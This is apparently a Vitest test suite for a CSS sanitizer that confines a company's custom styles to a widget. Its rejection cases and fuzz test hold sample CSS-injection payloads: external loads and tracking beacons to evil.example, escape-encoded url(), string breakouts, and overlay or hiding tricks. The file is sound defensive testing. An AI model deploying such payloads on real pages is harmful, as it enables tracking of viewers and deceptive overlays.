import { describe, expect, it } from 'vitest'
import { reduceCustomCss } from './reduce.ts'

/** The result without the conditions that limit each selector to the company's parts. */
const KEPT = '[data-kept],[data-kept] *'
const plain = (css: string) =>
  reduceCustomCss(css)
    .css.replace(/^@layer company\{(.*)\}$/s, '$1')
    .replaceAll(':where(#root) ', '')
    .replaceAll(`:not(:where(${KEPT},:has([data-kept])))`, '')
    .replaceAll(`:not(:where(${KEPT}))`, '')

describe('custom CSS of a company', () => {
  // proves S1.config.3
  it('keeps styles inside the widget, in the company’s layer, and never on protected content', () => {
    expect(
      reduceCustomCss('.z-card { border-radius: 8px; background: linear-gradient(#fff, #eee) }'),
    ).toEqual({
      css: `@layer company{:where(#root) .z-card:not(:where(${KEPT})){border-radius:8px;background:linear-gradient(#fff,#eee)}}`,
      refused: [],
    })
  })

  // proves S1.config.3
  it('layout reaches only what holds nothing that must stay; a place only what stands among such', () => {
    const { css } = reduceCustomCss('.a { display: grid; position: absolute; left: 4px }')
    const free = `:not(:where(${KEPT},:has([data-kept])))`
    expect(css).toBe(
      `@layer company{:where(#root) .a${free}{display:grid}:where(#root) .a${free}:where(${free}>*){position:absolute;left:4px}}`,
    )
  })

  it.each<{ css: string; becomes: string; because: string }>([
    {
      css: 'body, html .z-card, html body > p { color: #222 }',
      becomes: ':is(.z-app,.z-plain),:is(.z-app,.z-plain) .z-card,:is(.z-app,.z-plain)>p{color:#222}',
      because: 'what is said of the page is meant of the widget',
    },
    {
      css: '@media (min-width: 480px) and (hover) { .a { color: red } }',
      becomes: '@media (min-width:480px) and (hover){.a{color:red}}',
      because: 'screens differ',
    },
    {
      css: '.a { color: red !important }',
      becomes: '.a{color:red}',
      because: 'it counts among its own alone',
    },
    {
      css: '.a { color: var(--z-accent); font-family: "Segoe UI", serif }',
      becomes: '.a{color:var(--z-accent);font-family:"Segoe UI",serif}',
      because: 'our colours may be used',
    },
    {
      css: '.a { color: red; position: fixed; font-weight: 700 } .b { background: url(x) } .c { color: tan }',
      becomes: '.a{color:red;font-weight:700}.c{color:tan}',
      because: 'one bad line costs only itself',
    },
    {
      css: '.a, .b:has(p), .c { color: red }',
      becomes: '.a,.c{color:red}',
      because: 'so does one bad selector',
    },
    {
      css: '.a:hover:nth-child(2n + 1)::before { color: red }',
      becomes: '.a:hover:nth-child(2n+1)::before{color:red}',
      because: 'states are looks',
    },
    {
      css: '.a { padding: 30px }',
      becomes: '.a{padding:30px}',
      because: 'more room than fits around a price',
    },
    { css: '.a { border-radius: 50% }', becomes: '.a{border-radius:50%}', because: 'a round picture' },
  ])('$css becomes $becomes ($because)', ({ css, becomes }) => {
    expect(plain(css)).toBe(becomes)
  })

  it.each<{ css: string; reason: string; because: string }>([
    {
      css: '@import url(https://evil.example/x.css);',
      reason: 'atRule',
      because: 'another file would be loaded',
    },
    {
      css: '@font-face { font-family: x; src: url(https://evil.example/x) }',
      reason: 'atRule',
      because: 'a font is loaded',
    },
    {
      css: '.a { background: url(https://evil.example/?who) }',
      reason: 'loads',
      because: 'a request tells who looks',
    },
    { css: '.a { background: URL("//evil.example") }', reason: 'loads', because: 'case changes nothing' },
    {
      css: '.a { background: u\\72l(https://evil.example) }',
      reason: 'value',
      because: 'an escape spells url',
    },
    {
      css: '.a { background: image-set("https://evil.example/x" 1x) }',
      reason: 'loads',
      because: 'a request without url()',
    },
    {
      css: '.a { background: linear-gradient(red, url(//evil.example)) }',
      reason: 'loads',
      because: 'hidden in a gradient',
    },
    { css: '.a { color: var(--x, url(//evil.example)) }', reason: 'value', because: 'hidden in a default' },
    {
      css: '.a { content: "call +1 900 123" }',
      reason: 'property',
      because: 'words would be put into the page',
    },
    { css: '.a { --z-on-accent: #ff0 }', reason: 'property', because: 'our variables hold checked contrast' },
    { css: '.a { position: fixed }', reason: 'value', because: 'it would lie over the action' },
    { css: '.a { opacity: 0 }', reason: 'property', because: 'it would hide things' },
    { css: '.a { margin-bottom: -300px }', reason: 'value', because: 'it would move things over others' },
    { css: '.a { box-shadow: 0 0 0 100vmax red }', reason: 'value', because: 'it would cover the page' },
    { css: '.a { padding: 9999px }', reason: 'value', because: 'it would push everything away' },
    {
      css: '.a { padding: calc(infinity * 1px) }',
      reason: 'value',
      because: 'without an end, said otherwise',
    },
    { css: '.a { padding: 1e9px }', reason: 'value', because: 'and so' },
    { css: '.a { padding: max(1px, 9999px) }', reason: 'value', because: 'and so' },
    { css: '.a { font-size: 4em }', reason: 'value', because: 'inside one another it has no end' },
    { css: '.a { display: inherit }', reason: 'value', because: 'nobody knows what it would be' },
    { css: '.a { color: bluish }', reason: 'value', because: 'no colour' },
    { css: '@layer kept { .a { color: red } }', reason: 'atRule', because: 'a way into our own layers' },
    { css: '@scope (html) { .a { color: red } }', reason: 'atRule', because: 'a way out of the scope' },
    {
      css: '@scope ("}\n") { .a { color: red } }',
      reason: 'atRule',
      because: 'closed by a string over two lines',
    },
    { css: '.a { color: "x\n } } .b { color: red', reason: 'value', because: 'the same in a value' },
    {
      css: '@keyframes z-rise { from { color: red } }',
      reason: 'atRule',
      because: 'our motion under another name',
    },
    { css: '.a { & .b { color: red } }', reason: 'nested', because: 'its selectors would stand alone' },
    { css: '.\\7a-central { color: red }', reason: 'selector', because: 'names are written as they are' },
    {
      css: '.a::first-line { color: red }',
      reason: 'selector',
      because: 'the first line may be of what stands inside',
    },
    {
      css: '.a { color: red } '.repeat(2000),
      reason: 'tooLong',
      because: 'longer than any look needs to be',
    },
    { css: '.a { color: red } '.repeat(501), reason: 'tooLong', because: 'reading it costs too much' },
    { css: `.${'('.repeat(9000)}`, reason: 'unreadable', because: 'nobody finds the end' },
  ])('says what is left out: $reason of $css ($because)', ({ css, reason }) => {
    const { refused } = reduceCustomCss(css)
    expect(refused.map((one) => one.reason)).toContain(reason)
    expect(plain(css)).not.toMatch(/evil|900|\bvar\(--x|infinity|9999/)
  })

  it('says where', () => {
    expect(reduceCustomCss('.a { color: red }\n.b {\n  opacity: 0\n}').refused).toEqual([
      { reason: 'property', what: 'opacity', line: 3 },
    ])
  })

  it('a rebuilt sheet leaves no quote, bracket or brace open', () => {
    const nasty = [
      '"',
      "'",
      '}',
      '{',
      '(',
      ')',
      '[',
      ']',
      '\\',
      '\n',
      '/*',
      '*/',
      '<!--',
      ';',
      '.a',
      'color:red',
      ',',
      '@media x',
      'url(',
      '\u0000',
    ]
    let state = 7
    const pick = () => nasty[(state = (state * 48_271) % 2_147_483_647) % nasty.length]!
    for (let round = 0; round < 3000; round += 1) {
      const css = `.b{color:tan}${Array.from({ length: 1 + (round % 14) }, pick).join('')}.c{color:tan}`
      const rebuilt = reduceCustomCss(css).css
      const bare = rebuilt.replaceAll(/"[^"\\\n]*"/g, '')
      expect(bare, css).not.toMatch(/["'\\\n<;]{2}|\/\*|url|@(?!layer company\{|media )/)
      for (const [open, close] of ['{}', '()', '[]'])
        expect(bare.split(open!).length, css).toBe(bare.split(close!).length)
    }
  })
})
